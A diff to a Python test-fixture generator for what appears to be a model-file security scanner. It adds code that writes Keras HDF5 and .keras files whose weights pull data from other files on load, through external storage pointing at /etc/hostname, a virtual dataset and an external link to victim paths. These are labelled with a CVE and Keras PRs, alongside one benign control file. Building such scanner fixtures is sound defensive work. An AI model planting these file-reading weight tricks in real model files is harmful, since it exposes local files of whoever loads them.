@@ -768,10 +768,10 @@ def normalise_shared_ids(text: str) -> str:
     return re.sub(r'"shared_object_id": (\d+)', sub, text)
 
 
-def keras_save(model, edit=None, config_bytes=None) -> bytes:
+def keras_save(model, edit=None, config_bytes=None, weights_edit=None) -> bytes:
     """model.save(...keras), re-packed deterministically: shared ids renumbered, date_saved
     fixed, member dates 1980-01-01. `edit(config_dict)` changes the config; `config_bytes`
-    replaces config.json outright."""
+    replaces config.json outright; `weights_edit(h5py.File)` changes model.weights.h5."""
     with tempfile.TemporaryDirectory(prefix="modelvet-keras-") as tmp:
         path = pathlib.Path(tmp) / "model.keras"
         model.save(str(path))
@@ -792,9 +792,23 @@ def keras_save(model, edit=None, config_bytes=None) -> bytes:
                 edit(cfg)
                 text = json.dumps(cfg)
             data = config_bytes if config_bytes is not None else text.encode()
+        elif name == "model.weights.h5" and weights_edit is not None:
+            data = h5_edit(data, weights_edit)
         out.append((name, data))
     assert [n for n, _ in out] == ["metadata.json", "config.json", "model.weights.h5"], out
     return g.plain_zip(out)
+
+
+def h5_edit(data: bytes, edit) -> bytes:
+    """`edit(f)` run on the HDF5 file `data` opened read-write with h5py."""
+    import h5py
+
+    with tempfile.TemporaryDirectory(prefix="modelvet-h5-") as tmp:
+        path = pathlib.Path(tmp) / "edit.h5"
+        path.write_bytes(data)
+        with h5py.File(path, "r+") as f:
+            edit(f)
+        return path.read_bytes()
 
 
 def keras_h5(model, edit=None) -> bytes:
@@ -1040,9 +1054,96 @@ def gen_keras(r):
             f.attrs["model_config"] = json.dumps(k2)
             f.create_group("model_weights").attrs["layer_names"] = np.array([b"input_1", b"lambda"])
         k2_h5 = path.read_bytes()
+    gen_hdf5_foreign_data(r, dense)
+
     r.finding("formats/keras2_lambda_legacy.h5", k2_h5, ["MV901"],
               "Keras 2 style legacy HDF5 (written with h5py): Lambda function [base64 marshal, null, null] "
               "with function_type lambda; the code calls os.system('echo modelvet-fixture')")
+
+
+def gen_hdf5_foreign_data(r, dense):
+    """CVE-2026-1669 and its follow-ups: HDF5 datasets and links that make h5py read
+    another file when Keras reads a weight. Written by h5py (the model by Keras); the
+    named paths are never read by the generator."""
+    import h5py
+
+    def external_storage(f):
+        kernel = f["model_weights/hidden/tiny_dense/hidden/kernel"]
+        shape, dtype = kernel.shape, kernel.dtype
+        del f["model_weights/hidden/tiny_dense/hidden/kernel"]
+        nbytes = int(np.prod(shape)) * dtype.itemsize
+        f["model_weights/hidden/tiny_dense/hidden"].create_dataset(
+            "kernel", shape=shape, dtype=dtype, external=[("/etc/hostname", 0, nbytes)])
+
+    legacy = keras_h5(dense)
+    with tempfile.TemporaryDirectory(prefix="modelvet-h5-") as tmp:
+        probe = pathlib.Path(tmp) / "probe.h5"
+        probe.write_bytes(legacy)
+        with h5py.File(probe, "r") as f:
+            names = []
+            f.visit(names.append)
+    assert "model_weights/hidden/tiny_dense/hidden/kernel" in names, names
+    r.finding("formats/keras_h5_external_storage.h5", h5_edit(legacy, external_storage), ["MV907"],
+              "Keras legacy HDF5 (Keras 3.15 model.save .h5) whose hidden/kernel weight is an h5py "
+              "dataset with external storage in /etc/hostname: load_weights reads that file into "
+              "the weight (CVE-2026-1669)")
+
+    def virtual_dataset(group, name, shape, dtype, source_file, source_dataset):
+        # h5py's create_virtual_dataset records modification times; the low-level calls
+        # leave them out, so the bytes do not depend on the clock.
+        dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
+        dcpl.set_obj_track_times(False)
+        space = h5py.h5s.create_simple(shape)
+        dcpl.set_virtual(space, source_file.encode(), source_dataset.encode(),
+                         h5py.h5s.create_simple(shape))
+        h5py.h5d.create(group.id, name.encode(), h5py.h5t.py_create(np.dtype(dtype)), space,
+                        dcpl=dcpl)
+
+    def virtual_source(f):
+        kernel = f["model_weights/logits/tiny_dense/logits/kernel"]
+        shape, dtype = kernel.shape, kernel.dtype
+        del f["model_weights/logits/tiny_dense/logits/kernel"]
+        virtual_dataset(f["model_weights/logits/tiny_dense/logits"], "kernel", shape, dtype,
+                        "/home/victim/checkpoint.h5", "/secret")
+
+    r.finding("formats/keras_h5_virtual_dataset.h5", h5_edit(legacy, virtual_source), ["MV907"],
+              "Keras legacy HDF5 whose logits/kernel weight is an h5py virtual dataset mapped from "
+              "/home/victim/checkpoint.h5 (Keras PR #22976: a virtual dataset reads another file)")
+
+    def external_link(f):
+        del f["layers/dense/vars"]
+        f["layers/dense"]["vars"] = h5py.ExternalLink("/home/victim/other.weights.h5",
+                                                      "/layers/dense/vars")
+
+    r.finding("formats/keras_weights_external_link.keras", keras_save(dense, weights_edit=external_link),
+              ["MV907"],
+              "Keras 3.15 .keras archive whose model.weights.h5 has layers/dense/vars replaced by an "
+              "h5py ExternalLink to /home/victim/other.weights.h5 (Keras PR #22057, CVE-2026-1669)")
+
+    with tempfile.TemporaryDirectory(prefix="modelvet-h5-") as tmp:
+        path = pathlib.Path(tmp) / "same_file.h5"
+        with h5py.File(path, "w") as f:
+            f["weights/source"] = np.arange(8, dtype="<f4")
+            virtual_dataset(f["weights"], "view", (8,), "<f4", ".", "/weights/source")
+            f["alias"] = h5py.SoftLink("/weights/source")
+        same_file = path.read_bytes()
+    r.benign("formats/hdf5_same_file_links.h5", same_file,
+             "h5py file with a soft link and a virtual dataset whose only source is the same file "
+             "('.'): nothing outside the file is read")
+
+    with tempfile.TemporaryDirectory(prefix="modelvet-h5-") as tmp:
+        path = pathlib.Path(tmp) / "user_block.h5"
+        with h5py.File(path, "w", userblock_size=512) as f:
+            f.attrs["note"] = "an HDF5 file after a 512-byte user block"
+            f["weights"] = np.arange(4, dtype="<f4")
+        blob = bytearray(path.read_bytes())
+    blob[:512] = b"#" * 512  # the user block belongs to the application: h5py skips it
+    r.finding("formats/hdf5_user_block_external_storage.h5",
+              h5_edit(bytes(blob), lambda f: f.create_dataset(
+                  "kernel", shape=(4,), dtype="<f4", external=[("/etc/hostname", 0, 16)])),
+              ["MV907"],
+              "h5py file with a 512-byte user block (the superblock sits at offset 512, where the "
+              "HDF5 library also looks) and a dataset stored in /etc/hostname")
 
 
 # =============================================================== loader configurations
